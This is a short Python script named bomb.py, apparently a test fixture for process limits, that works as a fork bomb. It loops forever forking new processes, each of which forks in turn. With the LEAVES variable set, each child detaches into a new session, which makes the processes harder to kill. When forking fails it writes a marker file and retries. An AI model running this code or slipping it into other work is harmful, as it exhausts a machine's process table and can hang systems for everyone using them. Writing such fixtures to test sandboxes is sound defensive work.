"""bomb.py — forks without end, each child too; with LEAVES it also leaves its parent's session each time."""

import os
import time

leaves = bool(os.environ.get("LEAVES"))
while True:
    try:
        if os.fork() == 0 and leaves:
            os.setsid()
        time.sleep(0.002)
    except OSError:
        open("room/full", "a").close()
        time.sleep(0.02)
